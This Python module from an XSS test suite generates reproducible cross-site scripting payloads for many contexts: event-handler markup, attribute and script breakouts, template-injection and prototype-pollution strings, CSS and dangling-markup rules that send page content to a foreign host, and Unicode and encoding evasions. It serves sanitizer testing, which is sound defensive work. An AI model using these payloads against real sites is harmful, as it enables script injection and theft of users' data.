"""The grammar of the payloads: for each context the rules by which a text may break out of it.

A rule takes the payload's number and a source of choices, and gives a text. Choices come from a
seed, so that a payload is the same in every run and can be asked for again by its number.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from random import Random
from types import MappingProxyType
from typing import Final

from tests.xss.reports import ADDRESSES, ENCODINGS, FOREIGN, SCRIPTS, percent

Rule = Callable[[int, Random], str]

# What may stand before markup, to leave the place that the text was put into.
_WAYS_OUT: Final = (
    *("", "", '">', "'>", "`>", '"/>', "-->", "--!>", "]]>", "?>", "%>", "</p>", "</li></ul>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</option></select>"),
    *("</a>", "</button>", "</template>", "</xmp>", "</iframe>", "</svg>", "\x00<x>", "<!--><x>"),
)
# Elements that run a handler without anybody's doing; `{}` stands for the handler's value.
_BY_THEMSELVES: Final = (
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button autofocus onfocus={}>x</button>",
    "<a tabindex=0 autofocus onfocus={}>x</a>",
    "<x contenteditable autofocus onfocus={}>x</x>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<iframe onload={}></iframe>",
    "<object data=x onerror={}></object>",
    "<embed src=x onerror={}>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<script src=x onerror={}></script>",
    "<marquee onstart={}>x</marquee>",
    "<image src=x onerror={}>",
    "<picture><img srcset=x onerror={}></picture>",
    "<div style=animation-name:x onanimationstart={}>x</div>",
    "<p onmouseover={}>x</p>",
    "<div hidden=until-found onbeforematch={}>x</div>",
)
_SPACES: Final = (" ", " ", "/", "\t", "\n", "\f", "\r\n", "//", "/ \n/")
_QUOTES: Final = ('"', "'", "")


def markup(number: int, pick: Random) -> str:
    """An element with a handler, perhaps behind a way out of where it was put."""
    script = pick.choice(ENCODINGS)(pick.choice(SCRIPTS)(number))
    quote = pick.choice(_QUOTES) if " " not in script else '"'
    tag = pick.choice(_BY_THEMSELVES).replace("{}", f"{quote}{script}{quote}")
    tag = tag.replace(" ", pick.choice(_SPACES), 1)
    return pick.choice(_WAYS_OUT) + _disguised(tag, pick)


def attribute(number: int, pick: Random) -> str:
    """A text that ends an attribute's value and begins a handler."""
    quote = pick.choice(('"', "'", "`", " ", "&quot;", "&#39;", '\\"', "\u201d"))
    script = pick.choice(ENCODINGS)(pick.choice(SCRIPTS)(number)).replace('"', "'")
    event = pick.choice(
        ("onfocus", "onerror", "onload", "onmouseover", "onclick", "oNfOcUs", "onpointerrawupdate")
    )
    space = pick.choice(_SPACES)
    return f"x{quote}{space}autofocus tabindex=1 {event}={quote}{script}{quote} y={quote}"


def address(number: int, pick: Random) -> str:
    """A bare address that must not become one that runs or loads something."""
    before = pick.choice(("", "", " ", "\t", "\x01", "/", "url(", "<", "mailto:x@y.z?body="))
    after = pick.choice(("", "", "//", "#x", "?x=y", " x", ".", ")", "%00"))
    return before + pick.choice(ADDRESSES)(number) + after


def loaded_address(number: int, pick: Random) -> str:
    """An element that loads or follows an address by itself, or when it is pressed."""
    target = pick.choice(ADDRESSES)(number).replace('"', "%22")
    return pick.choice(
        (
            '<iframe src="{}"></iframe>',
            '<a href="{}">x</a>',
            '<form action="{}"><button>x</button></form>',
            '<form><button formaction="{}">x</button></form>',
            '<object data="{}"></object>',
            '<embed src="{}">',
            '<img src="{}">',
            '<img srcset="{} 1x">',
            '<script src="{}"></script>',
            '<script type=module src="{}"></script>',
            '<link rel=stylesheet href="{}">',
            '<link rel=preload as=script href="{}">',
            '<meta http-equiv=refresh content="0;url={}">',
            '<base href="{}">',
            '<video poster="{}"></video>',
            '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
            '<svg><image href="{}"/></svg>',
            '<svg><use href="{}"/></svg>',
            '<math href="{}">x</math>',
            '<body background="{}">',
            '<table background="{}"><td>x</td></table>',
            '<a ping="{}" href=/x>x</a>',
        )
    ).format(target)


def script(number: int, pick: Random) -> str:
    """A text that ends a string, a template or a block of JavaScript or JSON."""
    report = pick.choice(SCRIPTS)(number)
    return pick.choice(
        (
            "';{}//",
            '";{}//',
            "`;{}//",
            "\\';{}//",
            '\\";{}//',
            "'-{}-'",
            '"-{}-"',
            "${{{}}}",
            "`${{{}}}`",
            "</script><script>{}</script>",
            "</ScRiPt ><svg/onload={}>",
            "<!--<script>{}</script>",
            '"}}</script><script>{}</script>',
            "\\u003cscript\\u003e{}\\u003c/script\\u003e",
            "\u2028{}//",
            "\u2029{}//",
            "*/{}/*",
            "{{{{{}}}}}",
            "{{{{constructor.constructor('{}')()}}}}",
            "<%= {} %>",
            "#{{{}}}",
            "{{% set x = {} %}}",
            '","__proto__":{{"x":"{}"}},"y":"',
        )
    ).format(report)


def style(number: int, pick: Random) -> str:
    """Style sheets and style attributes that run something or tell a foreign host what is there."""
    load = pick.choice((f"//{FOREIGN}/{number}", f"https://{FOREIGN}/{number}", f"/xss/{number}"))
    rule = pick.choice(
        (
            "@import '{}';",
            "*{{background:url({})}}",
            "input[value^=a]{{background:url({})}}",
            "@font-face{{font-family:x;src:url({})}}*{{font-family:x}}",
            "li{{list-style:url('{}')}}",
            "*{{cursor:url({}),auto}}",
            ":root::before{{content:url({})}}",
            "*{{-moz-binding:url({})}}",
            "p{{width:expression(xss(0))}}/*{}*/",
        )
    ).format(load)
    return pick.choice(
        (
            f"<style>{rule}</style>",
            f"</style><style>{rule}</style>",
            f"<svg><style>{rule}</style></svg>",
            f'<p style="x:y;background:url({load})">x</p>',
            f'x"style="position:fixed;inset:0;background:url({load})',
            f"</title><style>{rule}",
            f"}}{rule}",
            f"red;background:url({load})",
        )
    )


def dangling(number: int, pick: Random) -> str:
    """Markup without an end, which would carry off what follows it."""
    quote = pick.choice(("'", '"', "`", ""))
    return pick.choice(_WAYS_OUT) + pick.choice(
        (
            f"<img src={quote}//{FOREIGN}/{number}?",
            f"<img src={quote}/xss/{number}?",
            f"<a href={quote}//{FOREIGN}/{number}?",
            f"<base target={quote}xss{number}",
            f"<base href=//{FOREIGN}/>",
            f"<form action=//{FOREIGN}/{number}><textarea name=x>",
            f"<form id=xss{number} action=/xss/{number}><input name=x value={quote}",
            f"<meta http-equiv=refresh content={quote}0;url=//{FOREIGN}/{number}?",
            f"<link rel=prefetch href={quote}//{FOREIGN}/{number}?",
            f"<portal src={quote}//{FOREIGN}/{number}?",
            f"<table background={quote}//{FOREIGN}/{number}?",
            f"<iframe src=/xss/{number} name={quote}",
            f"<object data={quote}//{FOREIGN}/{number}?",
            "<plaintext>",
            "<!--",
            "<select><option>",
            "<noscript><p title=",
        )
    )


def clobbering(number: int, pick: Random) -> str:
    """Names that stand in for the page's own objects, in markup and as bare words."""
    name = pick.choice(
        (
            *("app", "document", "body", "head", "cookie", "attributes", "children", "innerHTML"),
            *("getElementById", "querySelector", "currentScript", "location", "defaultView"),
            *("dataset", "refdesk", "config", "nodeName", "parentNode", "submit", "action"),
        )
    )
    word = pick.choice(("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwn"))
    return pick.choice(("", "", '">', "'>", "-->")) + pick.choice(
        (
            f"<img name={name} id={name}>",
            f"<form id={name}><input name=attributes><input name={name}></form>",
            f"<a id={name}></a><a id={name} name=lang href=//{FOREIGN}/{number}></a>",
            f"<iframe name={name} srcdoc='<script>top.xss({number})</script>'></iframe>",
            f"<object name={name} id={name}></object>",
            f"<embed name={name}>",
            word,
            f"{word}[xss{number}]=1",
            f'{{"{word}":{{"xss{number}":1}}}}',
        )
    )


def hidden(number: int, pick: Random) -> str:
    """Marks that turn, hide or split text, and letters that look like markup."""
    report = pick.choice(SCRIPTS)(number)
    inner = f"<img src=x onerror={report}>"
    wide = {ord(a): ord(a) + 0xFEE0 for a in "<>\"'=/"}
    return pick.choice(
        (
            f"\u202e{inner}\u202c",
            f"\u2066{inner}\u2069",
            f"\u200b<\u200bimg src=x onerror={report}>",
            inner.translate(wide),
            inner.replace("<", "\u2039").replace(">", "\u203a"),
            inner.replace("<", "\ufe64").replace(">", "\ufe65"),
            inner.replace("i", "\u0131", 1),
            inner.replace("s", "\u017f", 1),
            f"<\u0301img src=x onerror={report}>",
            f"<\ufeffimg src=x onerror={report}>",
            f"<img\u00a0src=x onerror={report}>",
            f"<img\u2028src=x onerror={report}>",
            f"\U000e003cimg src=x onerror={report}\U000e003e",
            f"+ADw-img src=x onerror={report}+AD4-",
            f"%3Cimg src=x onerror={report}%3E",
            f"%253Cimg src=x onerror={report}%253E",
            f"&lt;img src=x onerror={report}&gt;",
            f"&amp;lt;img src=x onerror={report}&amp;gt;",
            f"\\x3cimg src=x onerror={report}\\x3e",
            f"\\74img src=x onerror={report}\\76",
            percent(inner),
        )
    )


_CASES: Final[tuple[Callable[[str], str], ...]] = (
    lambda tag: tag,
    lambda tag: tag,
    lambda tag: tag[:1] + tag[1:4].swapcase() + tag[4:],
    lambda tag: f"<{tag}",
    lambda tag: tag.rstrip(">"),
    lambda tag: f"{tag[:1]}\x00{tag[1:]}",
    lambda tag: f"{tag}</x>",
    lambda tag: f"<x>{tag}",
    lambda tag: f"<b title='-->'>{tag}",
    lambda tag: f"<!-- --!>{tag}",
    lambda tag: f"<![CDATA[{tag}]]>",
    lambda tag: f"<?xml {tag}?>",
)


def _disguised(tag: str, pick: Random) -> str:
    return pick.choice(_CASES)(tag)


RULES: Final[Mapping[str, Rule]] = MappingProxyType(
    {
        "HTML text": markup,
        "attribute": attribute,
        "address": address,
        "element that loads": loaded_address,
        "script and JSON": script,
        "style": style,
        "dangling markup": dangling,
        "clobbering": clobbering,
        "encodings and hidden marks": hidden,
    }
)
